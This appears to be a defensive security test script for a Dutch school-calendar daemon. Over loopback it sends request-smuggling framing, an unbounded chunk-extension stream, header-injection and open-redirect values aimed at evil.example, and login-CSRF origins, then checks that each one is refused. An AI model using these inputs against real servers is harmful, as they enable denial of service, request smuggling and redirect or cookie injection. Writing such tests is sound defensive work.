#!/usr/bin/python3
"""Attacks on a running daemon from loopback, as a hostile client and as careless staff would.

Each class of the hardening issue stays closed here: unbounded buffers, request framing, rights
across schools and roles, the write path (no-ops, rate limits, store growth), notes in feeds,
sign-in floods and timing, the connection cap, header injection and open redirects, login CSRF,
held_on bounds, sign-in links kept after sending, information leaks, and plain SMTP off loopback.
Every loop is bounded in count and time; every connection goes to 127.0.0.1.

usage: attack_test.py JAARKALENDER SOURCE_DIR
"""
import http.client
import json
import os
import re
import resource
import shutil
import signal
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from testlib import Checks, eventually, wait_for_port  # noqa: E402

BIN, SRC = sys.argv[1], sys.argv[2]
WORK = tempfile.mkdtemp(prefix="jk-attack-")
CONFIG = os.path.join(WORK, "jk.toml")
DB = os.path.join(WORK, "var", "jk.db")
MAIL = os.path.join(WORK, "var", "mail")
SCHOOL, OTHER = "voorbeeldschool", "tweedeschool"
NOW = "2027-01-20T10:00"  # a Wednesday in the school year, after the herfst and kerst
DAEMON_NOFILE = 256       # the daemon's descriptor limit for the connection-cap attack

check = Checks()


def setup():
    cal = os.path.join(WORK, "calendars")
    os.makedirs(cal)
    shutil.copytree(os.path.join(SRC, "calendars/voorbeeldschool"), os.path.join(cal, SCHOOL))
    shutil.copytree(os.path.join(SRC, "calendars/voorbeeldschool"), os.path.join(cal, OTHER))
    # Erik wears two hats: schoolleider of his school and a member of the bestuur.
    path = os.path.join(cal, SCHOOL, "school.toml")
    text = open(path).read()
    text = text.replace('roles = ["schoolleider"]', 'roles = ["schoolleider", "bestuurder"]', 1)
    open(path, "w").write(text)
    path = os.path.join(cal, OTHER, "school.toml")
    text = open(path).read().replace(f'id = "{SCHOOL}"', f'id = "{OTHER}"', 1)
    text = re.sub(r'email = "([^"@]+)@', r'email = "\1.twee@', text)  # unique addresses
    open(path, "w").write(text)
    with open(CONFIG, "w") as f:
        f.write('[server]\nlisten = "127.0.0.1"\nport = 0\nthreads = 2\n'
                'public_url = "http://127.0.0.1"\nheader_timeout_seconds = 3\n'
                '[store]\nsqlite = "var/jk.db"\n[calendars]\nfolder = "calendars"\n'
                '[mail]\nmode = "log"\nfolder = "var/mail"\nscan_seconds = 1\n'
                # The most the daemon ever logs: private text must be in none of it.
                '[log]\nlevel = "debug"\naccess = true\n')


class Daemon:
    def __init__(self):
        self.log_path = os.path.join(WORK, "serve.log")
        self.log = open(self.log_path, "w")

        def limits():
            resource.setrlimit(resource.RLIMIT_NOFILE, (DAEMON_NOFILE, DAEMON_NOFILE))

        self.proc = subprocess.Popen([BIN, "serve", "--config", CONFIG, "--now", NOW],
                                     stdout=self.log, stderr=subprocess.STDOUT,
                                     preexec_fn=limits)
        self.port = wait_for_port(self.log_path, self.proc, 20)

    def rss_kib(self):
        for line in open(f"/proc/{self.proc.pid}/status"):
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
        return 0

    def stop(self):
        self.proc.send_signal(signal.SIGTERM)
        code = self.proc.wait(timeout=30)
        check("daemon stops cleanly", code == 0, f"exit {code}")
        self.log.close()

    def request(self, method, path, body=None, headers=None, timeout=10):
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=timeout)
        try:
            c.request(method, path, body=body, headers=headers or {})
            r = c.getresponse()
            return r.status, dict(r.getheaders()), r.read()
        finally:
            c.close()

    def api(self, method, path, token, body=None):
        headers = {"Authorization": f"Bearer {token}"}
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        status, hdrs, raw = self.request(method, "/api/v1" + path, data, headers)
        try:
            return status, hdrs, json.loads(raw or b"null")
        except ValueError:
            return status, hdrs, raw


def cli(*args):
    return subprocess.run([BIN, *args], check=True, capture_output=True, text=True).stdout.strip()


def token(school, person):
    return cli("token", "--config", CONFIG, school, person)


def raw_exchange(port, data, read_for=2.0):
    """Sends raw bytes, returns everything the server answers until it closes (or time)."""
    s = socket.create_connection(("127.0.0.1", port), timeout=read_for)
    s.sendall(data)
    out = b""
    end = time.time() + read_for
    try:
        while time.time() < end:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
    except (socket.timeout, ConnectionResetError):
        pass
    s.close()
    return out


def events(d, tok, school=SCHOOL, query=""):
    status, _, body = d.api("GET", f"/schools/{school}/events{query}", tok)
    assert status == 200, (status, body)
    return body


# ---- 1: unbounded memory from one unauthenticated request ----------------------------------
def attack_chunk_extension(d):
    before = d.rss_kib()
    s = socket.create_connection(("127.0.0.1", d.port), timeout=5)
    s.sendall(b"POST /api/v1/me HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5;")
    sent, closed, timed_out = 0, False, False
    piece = b"e" * 65536
    deadline = time.time() + 10
    try:
        while sent < 64 * 1024 * 1024 and time.time() < deadline:
            s.sendall(piece)
            sent += len(piece)
    except (BrokenPipeError, ConnectionResetError):
        closed = True  # the server closed or reset it
    except socket.timeout:
        timed_out = True  # a full buffer that nobody reads is not a close
    answer = b""
    try:
        answer = s.recv(4096)
        closed = closed or answer == b""  # EOF
    except ConnectionResetError:
        closed = True
    except socket.timeout:
        timed_out = True
    s.close()
    grew = d.rss_kib() - before
    check("chunk extension: the connection is closed early (not merely stalled)",
          (closed or answer.startswith(b"HTTP/1.1 400")) and sent < 64 * 1024 * 1024,
          f"{sent} bytes accepted, closed {closed}, timed out {timed_out}, answer {answer[:40]!r}")
    check("chunk extension: answered 400", answer.startswith(b"HTTP/1.1 400") or closed,
          repr(answer[:40]))
    check("chunk extension: memory stays bounded", grew < 20 * 1024, f"grew {grew} KiB")
    # Endless trailers and headers too.
    out = raw_exchange(d.port, b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 2000)
    check("endless header block: 431", out.startswith(b"HTTP/1.1 431"), repr(out[:40]))


# ---- framing (RFC 9112 §6.1) -----------------------------------------------------------------
def attack_framing(d):
    smuggled = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
    for name, head in [
        ("TE not ending in chunked", b"Transfer-Encoding: gzip\r\n"),
        ("TE chunked, gzip", b"Transfer-Encoding: chunked, gzip\r\n"),
        ("TE and Content-Length", b"Transfer-Encoding: chunked\r\nContent-Length: 40\r\n"),
        ("two Hosts", b"Host: y\r\n"),
    ]:
        out = raw_exchange(d.port, b"POST /api/v1/me HTTP/1.1\r\nHost: x\r\n" + head + b"\r\n" +
                           smuggled)
        check(f"{name}: 400", out.startswith(b"HTTP/1.1 400"), repr(out[:40]))
        check(f"{name}: nothing after it is read as a request", out.count(b"HTTP/1.1") == 1,
              repr(out))


# ---- 2 and 5: rights across schools and roles ------------------------------------------------
def attack_rights(d, toks):
    erik, fatima, bram, anna = toks["erik"], toks["fatima"], toks["bram"], toks["anna"]
    other = events(d, erik, OTHER)
    check("a bestuurder reads another school", len(other) > 100, str(len(other)))
    target = next(e for e in other if e["rule"] == "klassenconsultatie")
    for action, body in [("done", {}), ("cancel", {"reason": "x"}), ("undo", {}),
                         ("move", {"date": "2027-01-25", "start": "09:00", "force": True})]:
        status, _, _ = d.api("POST", f"/schools/{OTHER}/events/{target['uid']}/{action}", erik,
                             body)
        check(f"schoolleider+bestuurder cannot {action} at another school", status == 403,
              str(status))
    after = [e for e in events(d, erik, OTHER) if e["uid"] == target["uid"]][0]
    check("the other school's event is unchanged", after == target, str(after))

    # The bestuur reads, never writes, also at its own school and on the pages.
    own = events(d, fatima)
    mine = [e for e in own if "fatima" in e["attendees"]]
    check("the bestuurder attends a meeting at her own school", bool(mine), "none")
    if mine:
        status, _, _ = d.api("POST", f"/schools/{SCHOOL}/events/{mine[0]['uid']}/done", fatima, {})
        check("a bestuurder cannot mark her own meeting held", status == 403, str(status))

    # An invited teacher cannot cancel or move a meeting of the team.
    team = [e for e in events(d, bram) if "bram" not in e["attendees"] and
            "bram" in e.get("optional_attendees", [])]
    meeting = [e for e in events(d, bram) if e["rule"] != "klassenconsultatie" and
               len(e["attendees"]) + len(e.get("optional_attendees", [])) > 5 and
               e.get("owner") != "bram" and e.get("subject") != "bram"]
    check("there is a team meeting bram is invited to", bool(team or meeting), "none")
    for e in (team + meeting)[:2]:
        status, _, _ = d.api("POST", f"/schools/{SCHOOL}/events/{e['uid']}/cancel", bram,
                             {"reason": "geen zin"})
        check(f"bram cannot cancel {e['title']}", status == 403, str(status))
        status, _, _ = d.api("POST", f"/schools/{SCHOOL}/events/{e['uid']}/move", bram,
                             {"date": "2027-01-27", "start": "15:00"})
        check(f"bram cannot move {e['title']}", status == 403, str(status))
    # A teacher cannot undo the IB'er's change.
    consult = next(e for e in events(d, bram) if e["rule"] == "klassenconsultatie" and
                   e["subject"] == "bram" and e["start"] < "2027-01-20")
    status, _, _ = d.api("POST", f"/schools/{SCHOOL}/events/{consult['uid']}/done", anna, {})
    check("the IB'er marks bram's consultation held", status == 200, str(status))
    status, _, _ = d.api("POST", f"/schools/{SCHOOL}/events/{consult['uid']}/undo", bram, {})
    check("bram cannot undo the IB'er's change", status == 403, str(status))


# ---- info leaks ---------------------------------------------------------------------------------
def attack_leaks(d, toks):
    anna, bram = toks["anna"], toks["bram"]
    a = d.api("GET", f"/schools/{OTHER}/events", anna)
    b = d.api("GET", "/schools/bestaat-niet/events", anna)
    check("another school answers as a missing one", (a[0], a[2]) == (b[0], b[2]) == (404, a[2]),
          f"{a[0]} {a[2]} / {b[0]} {b[2]}")
    hidden = next(e for e in events(d, anna) if "bram" not in e["attendees"] and
                  "bram" not in e.get("optional_attendees", []) and e["kind"] == "rule")
    fake = "0" * 36 + "@" + SCHOOL + ".jaarkalender"
    for action in ["", "/done"]:
        method = "POST" if action else "GET"
        body = {} if action else None
        x = d.api(method, f"/schools/{SCHOOL}/events/{hidden['uid']}{action}", bram, body)
        y = d.api(method, f"/schools/{SCHOOL}/events/{fake}{action}", bram, body)
        check(f"{method} of an event bram may not see answers as a missing one",
              (x[0], x[2]) == (y[0], y[2]) == (404, x[2]), f"{x[0]} {x[2]} / {y[0]} {y[2]}")


# ---- 3: the write path -----------------------------------------------------------------------
def db_counts():
    con = sqlite3.connect(DB)
    try:
        return {t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
                for t in ("plans", "event_changes", "audit_log")}
    finally:
        con.close()


def attack_write_path(d, toks):
    anna = toks["anna"]
    past = [e for e in events(d, anna) if e["kind"] == "rule" and e["status"] == "planned" and
            e["end"] < "2027-01-19"]
    e = past[0]
    before = db_counts()
    size0 = os.path.getsize(DB) + os.path.getsize(DB + "-wal") if os.path.exists(DB + "-wal") \
        else os.path.getsize(DB)
    status, _, first = d.api("POST", f"/schools/{SCHOOL}/events/{e['uid']}/done", anna,
                             {"note": "goed"})
    check("done: 200", status == 200, str(status))
    for _ in range(5):
        status, _, again = d.api("POST", f"/schools/{SCHOOL}/events/{e['uid']}/done", anna,
                                 {"note": "goed"})
        check("the same done again: 200, unchanged", status == 200 and again == first,
              f"{status} {again}")
    after = db_counts()
    check("a change is one change record, no plan copy",
          after["event_changes"] - before["event_changes"] == 1 and
          after["plans"] == before["plans"], f"{before} → {after}")
    # Many changes from one account: a burst, then 429 with Retry-After.
    statuses, retry = [], None
    for e2 in past[1:40]:
        status, hdrs, _ = d.api("POST", f"/schools/{SCHOOL}/events/{e2['uid']}/done", anna, {})
        statuses.append(status)
        if status == 429:
            retry = hdrs.get("Retry-After")
    check("one account is rate-limited", 429 in statuses and statuses.count(200) <= 20,
          str(statuses))
    check("429 says when to come back", retry is not None and int(retry) >= 1, str(retry))
    grown = db_counts()
    size1 = os.path.getsize(DB) + (os.path.getsize(DB + "-wal") if os.path.exists(DB + "-wal")
                                   else 0)
    n = grown["event_changes"] - before["event_changes"]
    print(f"store: {n} changes, plans {before['plans']} → {grown['plans']}, "
          f"{(size1 - size0) / max(1, n) / 1024:.1f} KiB per change (file and WAL)")
    check("no plan copy per change", grown["plans"] == before["plans"], str(grown))
    # While writers hammer, the feeds and health checks still answer.
    stop = time.time() + 3
    writers = [toks[p] for p in ("erik", "bram", "carla", "dirk")]

    def hammer(tok):
        mine = [x for x in events(d, tok) if x["status"] == "planned" and x["kind"] == "rule" and
                x["end"] < "2027-01-19"]
        i = 0
        while time.time() < stop and mine:
            d.api("POST", f"/schools/{SCHOOL}/events/{mine[i % len(mine)]['uid']}/done", tok,
                  {"note": f"n{i}"})
            i += 1

    threads = [threading.Thread(target=hammer, args=(t,)) for t in writers]
    for t in threads:
        t.start()
    health = []
    while time.time() < stop:
        t0 = time.time()
        status, _, _ = d.request("GET", "/healthz")
        health.append((status, time.time() - t0))
        time.sleep(0.02)
    for t in threads:
        t.join()
    check("healthz answers while writers hammer", all(s == 200 for s, _ in health),
          str(health[:5]))
    print(f"healthz during writes: median {statistics.median(x for _, x in health) * 1000:.2f} ms,"
          f" max {max(x for _, x in health) * 1000:.2f} ms over {len(health)} requests")


# ---- held_on bounds ------------------------------------------------------------------------
def attack_held_on(d, toks):
    bram = toks["bram"]
    mine = [e for e in events(d, bram) if e["status"] == "planned" and e["kind"] == "rule" and
            "bram" in e["attendees"] and e["end"] < "2027-01-19"]
    for held_on in ["0001-01-01", "2030-01-01", "2027-05-01"]:
        status, _, body = d.api("POST", f"/schools/{SCHOOL}/events/{mine[0]['uid']}/done", bram,
                                {"held_on": held_on})
        check(f"held_on {held_on} is a 400", status == 400, f"{status} {body}")


# ---- 4: notes never reach the feeds --------------------------------------------------------
def attack_notes(d, toks):
    bram = toks["bram"]
    mine = [e for e in events(d, bram) if e["status"] == "planned" and e["kind"] == "rule" and
            "bram" in e["attendees"] and e["end"] < "2027-01-19"]
    note = NOTE
    status, _, body = d.api("POST", f"/schools/{SCHOOL}/events/{mine[-1]['uid']}/done", bram,
                            {"note": note})
    check("bram marks held with a note", status == 200, f"{status} {body}")
    check("the answer to bram holds no note", note not in json.dumps(body), str(body))
    urls = []
    for args in (["person", "bram"], ["person", "anna"], ["school"], ["role", "ib"]):
        out = cli("subscribe", "--config", CONFIG, SCHOOL, *args)
        urls += re.findall(r"http://[^\s]+/feeds/[^\s]+\.ics", out)
    for url in urls:
        path = urllib.parse.urlparse(url).path
        # The daemon re-reads subscriptions made by the CLI every 2 s.
        status, _, feed = eventually(lambda: (lambda r: r if r[0] == 200 else None)(
            d.request("GET", path))) or d.request("GET", path)
        check(f"feed {path[:16]}…: 200", status == 200, str(status))
        check("no note in the feed", note.encode() not in feed, path)
    _, _, as_anna = d.api("GET", f"/schools/{SCHOOL}/events/{mine[-1]['uid']}", toks["anna"])
    check("the IB'er sees the note", as_anna.get("note") == note, str(as_anna))


NOTE = "Pietje Puk heeft dyslexie"
ABSENCE_REASON = "Privé: operatie aan de knie"
CANCEL_NOTE = "Moeder van Pietje belde over thuissituatie"


def attack_private_in_log(d, toks):
    """docs/domain.md: notes and absence reasons stay inside; the log is outside. Besides the
    note above: an absence with its private reason, previewed and stored, and a cancellation
    with its reason (at the second school, whose IB'er has written nothing yet)."""
    anna = toks["anna@" + OTHER]
    absence = {"kind": "absence", "person": "bram", "from": "2027-02-01", "to": "2027-02-05",
               "reason": ABSENCE_REASON}
    status, _, body = change(d, anna, OTHER, {**absence, "preview": True})
    check("the absence is previewed", status == 200, f"{status} {str(body)[:200]}")
    status, _, body = change(d, anna, OTHER, absence)
    check("the absence is stored", status in (200, 201), f"{status} {str(body)[:200]}")
    planned = [e for e in events(d, anna, OTHER) if e["status"] == "planned" and
               e["kind"] == "rule" and e["start"] > "2027-02-08"]
    status, _, body = d.api("POST", f"/schools/{OTHER}/events/{planned[0]['uid']}/cancel", anna,
                            {"reason": CANCEL_NOTE})
    check("a cancellation with a reason", status == 200, f"{status} {body}")
    log = open(d.log_path, encoding="utf-8", errors="replace").read()
    check("the debug and access log were written", "GET /" in log and "[debug]" in log,
          log[-300:])
    for private in (NOTE, ABSENCE_REASON, CANCEL_NOTE, "dyslexie", "knie", "thuissituatie"):
        check(f"the daemon's log never holds '{private}'", private not in log,
              [line for line in log.splitlines() if private in line][:2])


# ---- 6: sign-in floods and timing ------------------------------------------------------------
def pending_logins():
    """Sign-in mails in the outbox that are not sent (or given up) yet."""
    con = sqlite3.connect(DB, timeout=10)
    try:
        return con.execute("SELECT count(*) FROM mail_outbox WHERE kind = 'login' "
                           "AND state = 'pending'").fetchone()[0]
    finally:
        con.close()


def mails_to(address):
    if not os.path.isdir(MAIL):
        return 0
    n = 0
    for name in os.listdir(MAIL):
        with open(os.path.join(MAIL, name), errors="replace") as f:
            if address in f.read():
                n += 1
    return n


def attack_sign_in(d):
    address = "anna.devries@voorbeeld.nl"
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for _ in range(10):
        d.request("POST", "/inloggen", "email=" + urllib.parse.quote(address), form)
    # The outbox is sent within a scan: wait until no sign-in mail is left to send.
    eventually(lambda: mails_to(address) >= 1 and pending_logins() == 0)
    n = mails_to(address)
    check("ten requests for one address give at most three mails", 1 <= n <= 3, str(n))
    # Timing: known and unknown addresses answer alike (the work happens in the background).
    samples = {"known": [], "unknown": []}
    for i in range(40):
        for kind, addr in (("known", f"erik.hoekstra@voorbeeld.nl"),
                           ("unknown", f"niemand{i}@voorbeeld.nl")):
            t0 = time.perf_counter()
            status, _, page = d.request("POST", "/inloggen", "email=" + addr, form)
            samples[kind].append(time.perf_counter() - t0)
    known, unknown = statistics.median(samples["known"]), statistics.median(samples["unknown"])
    print(f"sign-in answer: known {known * 1000:.3f} ms, unknown {unknown * 1000:.3f} ms (median)")
    check("a known address answers as fast as an unknown one",
          known < unknown * 1.5 + 0.0005, f"{known * 1000:.3f} vs {unknown * 1000:.3f} ms")
    # Sent sign-in mails keep no working link in the store.
    con = sqlite3.connect(DB)
    rows = con.execute("SELECT state, length(message) FROM mail_outbox WHERE kind = 'login'")
    rows = rows.fetchall()
    con.close()
    sent = [n for state, n in rows if state == "sent"]
    check("sent sign-in links are purged from the outbox",
          len(sent) > 0 and all(n == 0 for n in sent), str(rows))


# ---- pages: login CSRF, open redirect, header injection -------------------------------------
def sign_in(d, person, headers=None, school=SCHOOL):
    link = cli("login-link", "--config", CONFIG, school, person, "--now", NOW)
    path = urllib.parse.urlparse(link).path
    status, hdrs, _ = d.request("POST", path, "", headers or {})
    return status, hdrs, path


def attack_pages(d):
    status, _, path = sign_in(d, "hanna", {"Origin": "http://evil.example",
                                          "Sec-Fetch-Site": "cross-site"})
    check("a sign-in link posted from another site is refused", status == 403, str(status))
    status, hdrs, _ = d.request("POST", path, "", {"Origin": "http://127.0.0.1:%d" % d.port,
                                                   "Host": "127.0.0.1:%d" % d.port})
    check("the same link still works from our own page", status == 303, str(status))
    cookie = hdrs.get("Set-Cookie", "").split(";")[0]
    _, _, page = d.request("GET", "/", headers={"Cookie": cookie})
    csrf = re.search(rb'name="csrf" value="([^"]+)"', page).group(1).decode()
    held = re.search(rb'action="(/afspraak/[^"]+/gehouden)"', page)
    check("hanna's page offers a held button", held is not None, "none")
    if held:
        for terug in ["/\t/evil.example", "//evil.example", "/ib\r\nSet-Cookie: x=1",
                      "https://evil.example/", "/ib?x=1"]:
            body = urllib.parse.urlencode({"csrf": csrf, "terug": terug})
            status, hdrs, _ = d.request("POST", held.group(1).decode(), body,
                                        {"Cookie": cookie,
                                         "Content-Type": "application/x-www-form-urlencoded"})
            loc = hdrs.get("Location", "")
            check(f"terug {terug!r} gives no foreign redirect",
                  loc.startswith("/") and not loc.startswith("//") and "evil" not in loc and
                  "\t" not in loc and "Set-Cookie" not in str(hdrs.get("Set-Cookie", "")),
                  f"{status} {loc!r}")



# ---- round two, 1: roles only within one's rights; one address, one person --------------------
def change(d, tok, school, body):
    return d.api("POST", f"/schools/{school}/changes", tok, body)


def history_size(d, tok, school=SCHOOL):
    status, _, body = d.api("GET", f"/schools/{school}/changes", tok)
    assert status == 200, (status, body)
    return len(body)


def newcomer(name, email, roles=None, **extra):
    body = {"kind": "person", "name": name, "email": email, "works": ["ma", "di"]}
    if roles is not None:
        body["roles"] = roles
    body.update(extra)
    return body


def field_error(status, body, field, words):
    return (status == 400 and isinstance(body, dict) and
            any(f["field"] == field and words in f["message"] for f in body.get("fields", [])))


def attack_grant(d, toks):
    anna, erik = toks["anna"], toks["erik"]
    stored = history_size(d, anna)
    status, _, body = change(d, anna, SCHOOL, newcomer("Mal Loot", "someone@elsewhere.example",
                                                       ["bestuurder"]))
    check("an IB'er cannot make a bestuurder (400 at roles)",
          field_error(status, body, "roles", "bestuurder"), f"{status} {body}")
    for role in ("schoolleider", "ib"):
        status, _, body = change(d, anna, SCHOOL, newcomer("Mal Loot", "mal@voorbeeld.nl", [role]))
        check(f"an IB'er cannot make someone {role}",
              field_error(status, body, "roles", "alleen de schoolleider"), f"{status} {body}")
    status, _, body = change(d, erik, SCHOOL, newcomer("Mal Loot", "mal@voorbeeld.nl",
                                                       ["bestuurder"]))
    check("a schoolleider cannot make a bestuurder either",
          field_error(status, body, "roles", "bestuurder"), f"{status} {body}")
    status, _, body = change(d, erik, SCHOOL, dict(newcomer("Nina Nieuw", "nina@voorbeeld.nl",
                                                            ["ib"]), preview=True))
    check("the schoolleider may make someone IB'er (preview 200)", status == 200,
          f"{status} {body}")
    # An address a person of another school has, for a newcomer or a new invaller.
    status, _, body = change(d, anna, SCHOOL, newcomer("Dubbel", "bram.jansen.twee@voorbeeld.nl"))
    check("an address of another school's person is refused at the field",
          field_error(status, body, "email", "andere school"), f"{status} {body}")
    status, _, body = change(d, anna, SCHOOL, {
        "kind": "absence", "person": "bram", "from": "2027-02-01", "to": "2027-02-05",
        "substitute": {"name": "Ander", "email": "carla.smit@voorbeeld.nl"}})
    check("a new invaller with a colleague's address is refused at the field",
          field_error(status, body, "substitute.email", "Carla Smit"), f"{status} {body}")
    # The same through the web form's "Rollen" field.
    cookie = page_session(d, "anna")
    _, _, form = d.request("GET", "/wijzigingen/nieuw/nieuw", headers={"Cookie": cookie})
    csrf = re.search(rb'name="csrf" value="([^"]+)"', form).group(1).decode()
    for roles, words in (("bestuurder", "bestuurder"), ("ib, bouwcoordinator",
                                                       "alleen de schoolleider")):
        body = urllib.parse.urlencode({"csrf": csrf, "actie": "opslaan", "name": "Mal Loot",
                                       "email": "someone@elsewhere.example", "works": "ma",
                                       "roles": roles})
        status, _, page = d.request("POST", "/wijzigingen/nieuw/nieuw", body,
                                    {"Cookie": cookie,
                                     "Content-Type": "application/x-www-form-urlencoded"})
        check(f"the form's Rollen '{roles}' is refused on the page",
              status == 400 and words.encode() in page, f"{status} {page[-600:]}")
    check("nothing of it was stored", history_size(d, anna) == stored,
          f"{stored} → {history_size(d, anna)}")
    # The address that asked never gets a sign-in link.
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    d.request("POST", "/inloggen", "email=someone%40elsewhere.example", form)
    # A request for a known address after it: once that link is mailed, the attacker's request
    # has been handled too (one queue, in order).
    marker = "hanna.mulder@voorbeeld.nl"
    before = mails_to(marker)
    d.request("POST", "/inloggen", "email=" + urllib.parse.quote(marker), form)
    check("the request after it is mailed",
          eventually(lambda: mails_to(marker) > before and pending_logins() == 0), "no mail")
    check("the attacker's address gets no sign-in mail", mails_to("someone@elsewhere.example") == 0,
          str(mails_to("someone@elsewhere.example")))


# ---- the formatie from a spreadsheet: Excel's own file, and the same rights as a change ----------
def xlsx(rows):
    import io
    import openpyxl  # Debian's python3-openpyxl: an .xlsx as Excel's own tools write it
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Formatie"
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def attack_formatie(d, toks):
    anna, erik = toks["anna"], toks["erik"]
    path = f"/api/v1/schools/{SCHOOL}/formatie"
    xlsx_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

    def upload(tok, data, type_, query="?preview=1"):
        status, _, raw = d.request("POST", path + query, data,
                                   {"Authorization": f"Bearer {tok}", "Content-Type": type_})
        try:
            return status, json.loads(raw or b"null")
        except ValueError:
            return status, raw

    status, hdrs, template = d.request("GET", path, headers={"Authorization": f"Bearer {anna}"})
    check("the template is the school's formatie as CSV",
          status == 200 and hdrs.get("Content-Type", "").startswith("text/csv") and
          "Bram Jansen".encode() in template, f"{status} {template[:200]}")
    rows = [line.split(";") for line in template.decode("utf-8-sig").splitlines()]
    stored = history_size(d, anna)
    # The accounts' write burst is used up by the attacks before: the limit gives one a second.
    time.sleep(5)
    status, body = upload(erik, xlsx(rows + [["Nina Formatie", "nina.formatie@voorbeeld.nl", "",
                                              "ma, di", "", ""]]), xlsx_type)
    check("an openpyxl .xlsx previews with who is new",
          status == 200 and body["formatie"]["added"] == ["Nina Formatie"], f"{status} {body}")
    check("a preview stores nothing", history_size(d, anna) == stored, "stored")
    for tok, row, words in (
            (erik, ["Mal Loot", "mal@voorbeeld.nl", "bestuurder", "ma", "", ""], "bestuurder"),
            (erik, ["Dubbel", "bram.jansen.twee@voorbeeld.nl", "", "ma", "", ""], "andere school"),
            (anna, ["Mal Loot", "mal@voorbeeld.nl", "intern begeleider", "ma", "", ""],
             "alleen de schoolleider")):
        status, body = upload(tok, xlsx(rows + [row]), xlsx_type)
        check(f"a formatie row that gives '{words}' is refused",
              status == 400 and words in json.dumps(body, ensure_ascii=False), f"{status} {body}")
    for who in ("bram", "fatima"):
        status, _ = upload(toks[who], template, "text/csv")
        check(f"{who} imports no formatie", status == 403, str(status))
    status, _ = upload(anna, template, "text/csv", f"?preview=1&leavers_until=morgen")
    check("a leavers' day that is no date is refused", status == 400, str(status))
    status, _ = upload(erik, b"PK\x03\x04" + b"\0" * 1000, xlsx_type)
    check("a broken .xlsx is a 400, not a crash", status == 400, str(status))
    status, _ = upload(erik, b"Naam;E-mailadres;Werkdagen\r\n" + b"x;y@z.nl;ma\r\n" * 8000,
                       "text/csv")
    check("a formatie larger than a request may be is refused (413)", status == 413, str(status))
    status, _, body = change(d, erik, SCHOOL, {"kind": "person_edit", "person": "gijs",
                                               "email": "bram.jansen.twee@voorbeeld.nl"})
    check("a person's address of another school is refused at the field",
          field_error(status, body, "email", "andere school"), f"{status} {body}")
    check("nothing of it was stored", history_size(d, anna) == stored,
          f"{stored} → {history_size(d, anna)}")


# ---- round two, 2: a leaver keeps no rights ----------------------------------------------------
def attack_leaver(d, toks):
    erik2, anna2 = toks["erik@" + OTHER], toks["anna@" + OTHER]
    # Before: his token reads the history, his session opens the changes page, a link is ready.
    status, _, _ = d.api("GET", f"/schools/{OTHER}/changes", erik2)
    check("the schoolleider reads the history (before leaving)", status == 200, str(status))
    _, hdrs, _ = sign_in(d, "erik", school=OTHER)
    cookie = hdrs.get("Set-Cookie", "").split(";")[0]
    status, _, _ = d.request("GET", "/wijzigingen", headers={"Cookie": cookie})
    check("his session opens /wijzigingen (before leaving)", status == 200, str(status))
    link = cli("login-link", "--config", CONFIG, OTHER, "erik", "--now", NOW)
    # He left on 12 January; today is the 20th.
    status, _, body = change(d, anna2, OTHER, {"kind": "leave", "person": "erik",
                                               "until": "2027-01-12"})
    check("the IB'er enters the schoolleider's leaving", status == 201, f"{status} {body}")
    status, _, _ = d.api("GET", f"/schools/{OTHER}/changes", erik2)
    check("a leaver's token no longer reads the history", status in (401, 403), str(status))
    stored = history_size(d, anna2, OTHER)
    status, _, _ = change(d, erik2, OTHER, {"kind": "closure", "from": "2027-03-10",
                                            "closure_kind": "vrij", "name": "Vrij"})
    check("a leaver's token no longer posts changes", status in (401, 403), str(status))
    check("nothing was stored for him", history_size(d, anna2, OTHER) == stored, "stored")
    status, hdrs, _ = d.request("GET", "/wijzigingen", headers={"Cookie": cookie})
    check("a leaver's session no longer opens /wijzigingen",
          status in (302, 303, 401, 403) and status != 200, f"{status} {hdrs.get('Location')}")
    path = urllib.parse.urlparse(link).path
    status, hdrs, _ = d.request("POST", path, "")
    check("a sign-in link made before he left opens nothing",
          status == 403 and "Set-Cookie" not in hdrs, f"{status} {hdrs.get('Set-Cookie')}")


# ---- round two, 3: a preview costs little, and never holds another school ---------------------
def attack_preview_cost(d, toks):
    erik, anna2 = toks["erik"], toks["anna@" + OTHER]
    huge = dict(newcomer("Veel Groepen", "veel@voorbeeld.nl"), preview=True,
                groups=[{"group": "groep-4-5", "days": ["ma"]}] * 700)
    body = json.dumps(huge).encode()
    result = {}

    def slow():
        t0 = time.time()
        result["huge"] = d.request("POST", f"/api/v1/schools/{SCHOOL}/changes", body,
                                   {"Authorization": f"Bearer {erik}",
                                    "Content-Type": "application/json"}, timeout=60)
        result["huge_s"] = time.time() - t0

    t = threading.Thread(target=slow)
    t.start()
    time.sleep(0.05)
    t0 = time.time()
    status, _, answer = change(d, anna2, OTHER, {"kind": "closure", "from": "2027-03-10",
                                                 "closure_kind": "studiedag", "name": "Studiedag",
                                                 "preview": True})
    other_s = time.time() - t0
    t.join()
    print(f"preview: 700 group entries answered in {result['huge_s'] * 1000:.0f} ms; another "
          f"school's preview meanwhile in {other_s * 1000:.0f} ms ({len(body)} bytes)")
    check("another school's preview answers while one is big", status == 200 and other_s < 1.0,
          f"{status} {other_s:.2f} s {answer}")
    hs, _, hb = result["huge"]
    check("700 group entries are refused at the field, quickly",
          hs == 400 and b"hoogstens" in hb and result["huge_s"] < 1.0,
          f"{hs} {result['huge_s']:.2f} s {hb[:200]}")
    # Previews count in the account's limit.
    statuses = []
    for _ in range(30):
        status, hdrs, _ = change(d, anna2, OTHER, {"kind": "closure", "from": "2027-03-10",
                                                   "closure_kind": "studiedag",
                                                   "name": "Studiedag", "preview": True})
        statuses.append(status)
    check("previews are rate-limited per account", 429 in statuses and statuses.count(200) <= 20,
          str(statuses))


